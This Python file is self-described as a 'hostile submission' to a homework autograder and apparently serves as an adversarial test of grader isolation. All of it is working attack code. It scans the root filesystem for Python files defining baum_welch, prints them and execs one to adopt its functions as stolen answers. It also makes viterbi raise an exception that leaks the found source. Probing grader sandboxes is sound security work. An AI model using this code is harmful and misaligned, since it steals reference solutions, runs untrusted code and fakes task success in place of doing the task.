"""Hostile submission: searches / for *.py files defining baum_welch, adopts any that works and leaks them"""
import os
import sys

import numpy as np
import torch
import time

FOUND = {}
_deadline = time.monotonic() + 12
_needle = "def baum" + "_welch"
for _dir, _subdirs, _files in os.walk("/"):
    if _dir == "/":
        _subdirs[:] = [d for d in _subdirs if d not in ("proc", "sys", "dev")]
    if time.monotonic() > _deadline:
        break
    for _name in _files:
        if not _name.endswith(".py") or _name == "hw6_self.py":
            continue
        _path = os.path.join(_dir, _name)
        try:
            with open(_path, errors="replace") as fh:
                _text = fh.read(200_000)
        except OSError:
            continue
        if _needle in _text:
            FOUND[_path] = _text
print("found:", sorted(FOUND))
for _path, _text in FOUND.items():
    print("====", _path)
    print(_text)


CONTRACT = ("batchnorm_forward", "batchnorm_backward", "reparameterize", "kl_loss", "svm_fit", "forward",
            "backward", "sequence_log_likelihood", "viterbi", "baum_welch", "subpixel_conv")


def _adopt(source):
    """Replace the wrong functions by those of stolen source: points earned = the attack worked."""
    ns = {"__name__": "stolen"}
    try:
        exec(compile(source, "stolen", "exec"), ns)
    except BaseException:
        return False
    for name in CONTRACT:
        if callable(ns.get(name)):
            globals()[name] = ns[name]
    return True


def _works(source):
    ns = {}
    try:
        exec(compile(source, "candidate", "exec"), ns)
        return float(ns["kl_loss"](torch.zeros(2), torch.zeros(2))) == 0.0
    except BaseException:
        return False


for _path, _text in FOUND.items():
    if "Hostile submission" not in _text and _works(_text):
        print("adopting", _path)
        _adopt(_text)
        break


def viterbi(A, B, pi, O):
    raise RuntimeError("leak: " + "".join(FOUND.values())[:100000])
